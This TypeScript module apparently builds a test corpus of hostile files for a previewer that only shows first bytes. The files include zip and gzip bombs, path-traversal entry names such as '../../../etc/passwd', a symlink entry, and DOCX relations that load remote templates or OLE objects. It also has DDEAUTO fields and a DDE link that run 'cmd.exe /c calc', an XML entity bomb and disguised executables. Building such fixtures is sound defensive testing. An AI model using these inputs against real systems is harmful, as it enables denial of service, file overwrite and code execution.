/** Archives, office documents and programs. Nothing here is unpacked or rendered: the first bytes are shown. */
import { deflateRawSync, gzipSync } from 'node:zlib';
import { joined, latin, le16, le32, noise, zeros, zip, zlibZeros } from './bytes.ts';
import { type HostileInput, hostile, REMOTE, SCRIPT } from './input.ts';

const asBytes = (name: string, attacks: string, make: () => Uint8Array | string) =>
  hostile(name, attacks, 'bytes', 'shown', make);
const TYPES = { name: '[Content_Types].xml', data: latin('<?xml version="1.0"?><Types/>') };
const docx = (document: string, ...more: readonly { readonly name: string; readonly data: Uint8Array }[]) =>
  zip([TYPES, { name: 'word/document.xml', data: Buffer.from(document) }, ...more]);
const relation = (type: string, target: string) => ({
  name: 'word/_rels/document.xml.rels',
  data: latin(
    `<?xml version="1.0"?><Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  ),
});

function zipInZip(depth: number): Buffer {
  let inside = zip([{ name: 'bomb.bin', data: zeros(20_000_000) }]);
  for (let level = 0; level < depth; level += 1)
    inside = zip(
      Array.from({ length: 10 }, (_, at) => ({ name: `${at}.zip`, data: inside, method: 0 })).slice(
        0,
        level % 3 === 0 ? 10 : 1,
      ),
    );
  return inside;
}
/** Many entries that share one body: its size counts for each (after David Fifield). */
function overlapping(): Buffer {
  const body = deflateRawSync(zeros(10_000_000), { level: 9 });
  const local = joined(
    'PK\x03\x04',
    le16(20),
    le16(0),
    le16(8),
    zeros(8),
    le32(body.length),
    le32(10_000_000),
    le16(1),
    le16(0),
    'a',
  );
  const one = joined(
    'PK\x01\x02',
    le16(20),
    le16(20),
    le16(0),
    le16(8),
    zeros(8),
    le32(body.length),
    le32(10_000_000),
    le16(1),
    zeros(12),
    le32(0),
    'a',
  );
  const directory = Buffer.concat(Array.from({ length: 5000 }, () => one));
  return joined(
    local,
    body,
    directory,
    'PK\x05\x06',
    zeros(4),
    le16(5000),
    le16(5000),
    le32(directory.length),
    le32(local.length + body.length),
    le16(0),
  );
}

export const ARCHIVES: readonly HostileInput[] = [
  asBytes('zip-bomb.zip', 'zip bomb: 50 MB in 50 KB', () => zip([{ name: 'a', data: zeros(50_000_000) }])),
  asBytes('zip-in-zip.zip', 'zip bomb: archives in archives', () => zipInZip(4)),
  asBytes('zip-overlap.zip', 'zip bomb: 5000 entries that share one body', overlapping),
  asBytes('zip-itself.zip', 'endless: an archive that holds its own beginning', () =>
    zip([{ name: 'zip-itself.zip', data: zip([{ name: 'zip-itself.zip', data: latin('PK\x03\x04') }]), method: 0 }]),
  ),
  asBytes('zip-entries.zip', 'memory: 60 000 entries', () =>
    zip(Array.from({ length: 60_000 }, (_, at) => ({ name: `${at}`, data: zeros(0), method: 0 }))),
  ),
  asBytes('zip-climbs.zip', 'names that leave the folder', () =>
    zip(
      ['../../../etc/passwd', '/etc/passwd', 'C:\\Windows\\a.exe', '..\\..\\a', 'a/../../b'].map((name) => ({
        name,
        data: latin('x'),
      })),
    ),
  ),
  asBytes('zip-names.zip', 'names with controls, marks, nothing, and 60 000 characters', () =>
    zip([
      { name: 'a\0.txt', data: zeros(1) },
      { name: 'photo\u202Egpj.exe', data: zeros(1) },
      { name: '', data: zeros(1) },
      { name: 'x'.repeat(60_000), data: zeros(1) },
      { name: Buffer.of(0xff, 0xfe), data: zeros(1) },
    ]),
  ),
  asBytes('zip-link.zip', 'an entry that is a link elsewhere', () =>
    zip([
      { name: 'link', data: latin('/etc/passwd'), unixMode: 0o120777 },
      { name: 'link/a', data: latin('x') },
    ]),
  ),
  asBytes('zip-size-lie.zip', 'sizes that are lies', () =>
    zip([
      { name: 'a', data: zeros(1_000_000), claimedSize: 1 },
      { name: 'b', data: latin('x'), claimedSize: 0xffffffff },
    ]),
  ),
  asBytes('zip-64-lie.zip', 'sizes of 2^64 - 1', () =>
    joined(
      zip([{ name: 'a', data: latin('x'), claimedSize: 0xffffffff }]).subarray(0, -22),
      'PK\x06\x06',
      Buffer.alloc(52, 0xff),
      'PK\x06\x07',
      Buffer.alloc(16, 0xff),
      'PK\x05\x06',
      Buffer.alloc(18, 0xff),
    ),
  ),
  asBytes('zip-no-end.zip', 'cut off before its index', () =>
    zip([{ name: 'a', data: noise(5000, 'zip') }]).subarray(0, 3000),
  ),
  asBytes('zip-locked.zip', 'locked with a password', () =>
    zip([{ name: 'a', data: noise(500, 'zip'), flags: 1, method: 0 }]),
  ),
  asBytes('zip-comment.zip', 'script in its comment', () =>
    zip([{ name: 'a', data: zeros(1) }], `<script>${SCRIPT}</script>`),
  ),
  asBytes('docx-template.docx', 'loading: a template at an address', () =>
    docx('<w:document/>', relation('attachedTemplate', `${REMOTE}/ran.dotm`)),
  ),
  asBytes('docx-picture.docx', 'loading: a picture at an address', () =>
    docx('<w:document/>', relation('image', `${REMOTE}/ran.png`)),
  ),
  asBytes('docx-frame.docx', 'script: a frame at an address', () =>
    docx('<w:document/>', relation('frame', `${REMOTE}/ran.html`)),
  ),
  asBytes('docx-object.docx', 'starting: an object by reference (mhtml)', () =>
    docx('<w:document/>', relation('oleObject', `mhtml:${REMOTE}/ran.html!x`)),
  ),
  asBytes('docx-fields.docx', 'starting: fields that start programs', () =>
    docx('<w:document><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc"/></w:document>'),
  ),
  asBytes('docx-macro.docm', 'starting: macros', () =>
    docx('<w:document/>', { name: 'word/vbaProject.bin', data: noise(2000, 'vba') }),
  ),
  asBytes('docx-entities.docx', 'XML bomb inside', () =>
    docx(`<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "${'&a;'.repeat(999)}">]><w:document>&b;</w:document>`),
  ),
  asBytes('docx-bomb.docx', 'zip bomb: 20 MB of a picture', () =>
    docx('<w:document/>', { name: 'word/media/image1.png', data: zeros(20_000_000) }),
  ),
  asBytes('xlsx-link.xlsx', 'loading: a table of another file', () =>
    zip([
      TYPES,
      { name: 'xl/workbook.xml', data: latin('<workbook/>') },
      {
        name: 'xl/externalLinks/externalLink1.xml',
        data: latin(`<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`),
      },
    ]),
  ),
  asBytes('odt-macro.odt', 'starting: macros of an open document', () =>
    zip([
      { name: 'mimetype', data: latin('application/vnd.oasis.opendocument.text'), method: 0 },
      { name: 'Basic/Standard/ran.xml', data: latin('<script/>') },
      { name: 'content.xml', data: latin('<x/>') },
    ]),
  ),
  asBytes('book.epub', 'script in a book', () =>
    zip([
      { name: 'mimetype', data: latin('application/epub+zip'), method: 0 },
      { name: 'a.xhtml', data: latin(`<script>${SCRIPT}</script>`) },
    ]),
  ),
  asBytes('doc-macro.doc', 'starting: macros of an old document', () =>
    joined('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', zeros(500), Buffer.from('VBA', 'utf16le'), zeros(3000)),
  ),
  asBytes('doc-circle.doc', 'endless: sectors that follow themselves', () =>
    joined('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', zeros(68), le32(0), Buffer.alloc(4000, 0)),
  ),
  asBytes('gzip-bomb.gz', 'gzip bomb: 50 MB', () => gzipSync(zeros(50_000_000), { level: 9 })),
  asBytes('gzip-name.gz', 'a name that leaves the folder', () =>
    joined([0x1f, 0x8b, 8, 8], zeros(6), '../../ran\0', zlibZeros(9).subarray(2)),
  ),
  asBytes('rar.rar', 'an archive of another kind', () => joined('Rar!\x1a\x07\x01\0', noise(500, 'rar'))),
  asBytes('seven.7z', 'an archive that claims a dictionary of 4 GB', () =>
    joined('7z\xbc\xaf\x27\x1c\0\x04', noise(20, '7z'), Buffer.alloc(12, 0xff)),
  ),
  asBytes('program.exe', 'a program', () => joined('MZ', noise(3000, 'exe'))),
  asBytes('program', 'a program without an ending', () => joined('\x7fELF\x02\x01\x01', noise(3000, 'elf'))),
  asBytes('photo.jpg.exe', 'a program called a picture', () => joined('MZ', noise(300, 'exe'))),
  asBytes('app.apk', 'a program for a phone', () =>
    zip([
      { name: 'AndroidManifest.xml', data: noise(50, 'apk') },
      { name: 'classes.dex', data: noise(50, 'dex') },
    ]),
  ),
  asBytes('program.jar', 'a program in an archive', () =>
    zip([{ name: 'META-INF/MANIFEST.MF', data: latin('Main-Class: ran') }]),
  ),
  asBytes('disk.iso', 'an image of a disk', () => joined(zeros(32_768), '\x01CD001', noise(2000, 'iso'))),
  asBytes('shortcut.lnk', 'a shortcut to a program', () =>
    joined('L\0\0\0\x01\x14\x02\0', zeros(50), Buffer.from('cmd.exe /c calc', 'utf16le')),
  ),
];
